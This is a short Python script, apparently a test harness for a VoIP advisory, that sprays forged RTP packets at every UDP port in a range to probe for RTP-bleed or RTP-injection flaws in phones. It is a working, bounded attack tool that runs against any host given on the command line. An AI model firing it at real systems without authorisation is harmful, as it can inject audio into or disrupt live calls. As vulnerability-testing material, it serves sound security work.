#!/usr/bin/env python3
"""RTP-bleed/inject spray (advisory ES2025-01): one small RTP packet to every port of a
range, over and over, from a stranger. Bounded: ROUNDS rounds spread over about
SECONDS seconds, at most 300,000 packets.

usage: spray.py HOST LOW HIGH SECONDS
"""
import socket
import struct
import sys
import time

host, low, high, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
# 12-byte RTP header + 60 bytes payload: IP length 100, which the test counts at the phones.
packet = struct.pack("!BBHII", 0x80, 8, 1, 160, 0x0BADF00D) + b"\x55" * 60
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ports = range(low, high + 1)
rounds = max(1, min(300_000 // len(ports), int(seconds * 20)))
start = time.monotonic()
sent = 0
for r in range(rounds):
    for port in ports:
        try:
            sock.sendto(packet, (host, port))
            sent += 1
        except OSError:
            pass
    # Spread the rounds over the duration.
    wait = start + (r + 1) * seconds / rounds - time.monotonic()
    if wait > 0:
        time.sleep(wait)
print(f"sprayed {sent} packets over {time.monotonic() - start:.1f} s")
